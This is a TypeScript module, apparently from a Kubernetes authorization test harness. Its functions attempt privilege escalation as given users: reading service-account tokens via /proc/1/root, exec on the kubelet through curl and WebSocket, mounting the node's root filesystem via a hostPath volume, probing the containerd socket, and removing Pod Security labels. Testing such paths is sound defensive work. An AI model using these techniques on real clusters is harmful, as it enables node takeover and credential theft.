import { type Attempt } from './attempts.ts'
import type { Stage } from './stage.ts'

const tokenFile = '/var/run/secrets/kubernetes.io/serviceaccount/token'
const image = 'localhost/agnhost:1'
const merge = 'application/strategic-merge-patch+json'

/** An ephemeral container that looks into its target, or at all capabilities of the node. */
export const debug =
  (namespace: string, pod: string, privileged: boolean, subresource = '/ephemeralcontainers'): Attempt =>
  async (stage, user) => {
    const name = privileged ? 'root' : 'spy'
    const command = ['sh', '-c', `cat /proc/1/root${tokenFile}; echo; grep CapEff /proc/self/status; sleep 1000`]
    const context = privileged ? { securityContext: { privileged } } : {}
    const container = { name, image, command, targetContainerName: 'a', ...context }
    const body = { spec: { ephemeralContainers: [container] } }
    const path = `/api/v1/namespaces/${namespace}/pods/${pod}${subresource}`
    const { status } = await stage.send({ method: 'PATCH', path, body, type: merge }, user)
    if (status !== 200) return false
    const [token = '', caps = ''] = (await stage.said(namespace, pod, name)).split('\n')
    if (privileged) return (BigInt(`0x${caps.split('\t')[1] ?? '0'}`) & (1n << 21n)) !== 0n
    return (await stage.whoIs(token)) === `system:serviceaccount:${namespace}:boss`
  }

export const swapImage =
  (namespace: string, pod: string): Attempt =>
  async (stage, user) => {
    const path = `/api/v1/namespaces/${namespace}/pods/${pod}`
    const body = { spec: { containers: [{ name: 'a', image: 'localhost/other:1' }] } }
    const { status } = await stage.send({ method: 'PATCH', path, body, type: merge }, user)
    if (status !== 200) return false
    const isNew = '--for=jsonpath={.status.containerStatuses[0].restartCount}=1'
    return (await stage.kubectl(['wait', '-n', namespace, `pod/${pod}`, isNew, '--timeout=20s'])).code === 0
  }

/** The kubelet's way to run a command, through the API server. */
export const proxyRun: Attempt = async (stage, user) => {
  const path = `/api/v1/nodes/node1/proxy/run/open/boss/a?cmd=${encodeURIComponent(`cat ${tokenFile}`)}`
  const { status, body } = await stage.send({ method: 'POST', path }, user)
  return status === 200 && (await stage.whoIs(body)) === 'system:serviceaccount:open:boss'
}

/** The same by a WebSocket at the kubelet itself, as a service account that holds what the user holds. */
export const kubeletExec: Attempt = async (stage, user) => {
  await stage.kubectl(['create', 'serviceaccount', '-n', 'open', user])
  const binding = ['create', 'clusterrolebinding', `account-${user}`, `--clusterrole=${user}-0`]
  await stage.kubectl([...binding, `--serviceaccount=open:${user}`])
  const token = (await stage.kubectl(['create', 'token', '-n', 'open', user])).stdout.trim()
  const headers = [
    `Authorization: Bearer ${token}`,
    'Connection: Upgrade',
    'Upgrade: websocket',
    'Sec-WebSocket-Version: 13',
    'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==',
    'Sec-WebSocket-Protocol: v4.channel.k8s.io',
  ]
  const url = 'https://10.89.0.1:10250/exec/open/boss/a?command=id&output=1'
  const flags = headers.map((header) => `-H '${header}'`).join(' ')
  const { stdout } = await stage.node(`curl -sk --http1.1 -m 5 ${flags} '${url}' | tr -d '\\000-\\010'`)
  return stdout.includes('uid=0(root)')
}

/** A volume that is the node's root, made by one user, and a pod whose own claim it is bound to, by another. */
export const mountVolume =
  (namespace: string, maker: string, creator: string): Attempt =>
  async (stage) => {
    const name = `mount-${namespace}-${maker}-${creator}`
    const volume = {
      apiVersion: 'v1',
      kind: 'PersistentVolume',
      metadata: { name },
      spec: {
        capacity: { storage: '1Gi' },
        accessModes: ['ReadWriteOnce'],
        hostPath: { path: '/' },
        claimRef: { namespace, name: `${name}-host` },
      },
    }
    const made = await stage.send({ method: 'POST', path: '/api/v1/persistentvolumes', body: volume }, maker)
    if (made.status !== 201) return false
    const path = `/api/v1/namespaces/${namespace}/pods`
    const { status } = await stage.send({ method: 'POST', path, body: mounting(name, namespace === 'tight') }, creator)
    if (status !== 201) return false
    const said = await stage.said(namespace, name)
    return said.includes(namespace === 'tight' ? 'socket is open' : stage.marker)
  }

function mounting(name: string, isTight: boolean): object {
  const resources = { requests: { storage: '1Gi' } }
  const claim = { spec: { storageClassName: '', accessModes: ['ReadWriteOnce'], resources } }
  const socket = 'test -w /host/run/containerd/containerd.sock && echo socket is open'
  const user = { runAsNonRoot: true, runAsUser: 1000, runAsGroup: 0, seccompProfile: { type: 'RuntimeDefault' } }
  const container = {
    name: 'a',
    image,
    command: ['sh', '-c', `cat /host/run/marker; ${socket}; sleep 1000`],
    volumeMounts: [{ name: 'host', mountPath: '/host' }],
    ...(isTight && { securityContext: { allowPrivilegeEscalation: false, capabilities: { drop: ['ALL'] } } }),
  }
  const volumes = [{ name: 'host', ephemeral: { volumeClaimTemplate: claim } }]
  const spec = { volumes, containers: [container], ...(isTight && { securityContext: user }) }
  return { apiVersion: 'v1', kind: 'Pod', metadata: { name }, spec }
}

/** Takes the Pod Security label off a namespace. */
export async function unlabel(stage: Stage, user: string, namespace: string, subresource: string): Promise<boolean> {
  const path = `/api/v1/namespaces/${namespace}${subresource}`
  const body = { metadata: { labels: { 'pod-security.kubernetes.io/enforce': 'privileged' } } }
  const { status } = await stage.send({ method: 'PATCH', path, body, type: 'application/merge-patch+json' }, user)
  return status === 200
}

export const bindWaiting: Attempt = async (stage, user) => {
  const body = {
    apiVersion: 'v1',
    kind: 'Binding',
    metadata: { name: 'waiting' },
    target: { kind: 'Node', name: 'node1' },
  }
  const path = '/api/v1/namespaces/open/pods/waiting/binding'
  const { status } = await stage.send({ method: 'POST', path, body }, user)
  if (status !== 201) return false
  return (
    (await stage.kubectl(['wait', '-n', 'open', '--for=condition=Ready', 'pod/waiting', '--timeout=20s'])).code === 0
  )
}
